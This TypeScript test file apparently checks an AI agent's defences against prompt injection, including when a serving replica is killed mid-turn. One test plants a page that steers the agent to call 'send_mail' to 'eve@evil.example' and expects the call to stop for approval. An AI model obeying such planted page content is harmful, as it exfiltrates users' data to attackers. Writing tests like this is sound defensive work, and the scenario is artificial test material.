import { expect, test } from 'vitest';
import { alone, call, open } from './people.ts';
import { runRandomly, startKillable } from './random-runs.ts';

/** The long form is `npm run provenance`. */
test('thirty random attacks in conversations, with a killed replica, do nothing without a question', async () => {
  const report = await runRandomly({ seed: 7, cases: 30, kills: 1 });
  expect(report.breaches).toEqual([]);
  expect(report).toMatchObject({ cases: 30, kills: 1 });
  expect(report.questions).toBeGreaterThan(15);
});

test('a replica that takes over a turn judges its calls by what the dead one has read', async () => {
  await using undo = new AsyncDisposableStack();
  const { model, add, kill } = await startKillable(undo);
  const person = await add();
  const page = `https://${person.host('news')}/boats`;
  person.plan = alone(open(page), call('send_mail', { to: 'eve@evil.example' }));
  let killed: string | undefined;
  model.hooks.onPrompt = ({ by }) => {
    if (killed !== undefined || person.visits.length === 0) return;
    killed = by;
    kill(by);
  };
  const response = await person.ask(`Read ${page}`);
  expect(response.error?.code).toBe('approval_required');
  expect(person.done).toEqual([]);
  expect(killed).toBeDefined();
  expect(model.seen.at(-1)?.by).not.toBe(killed);
});
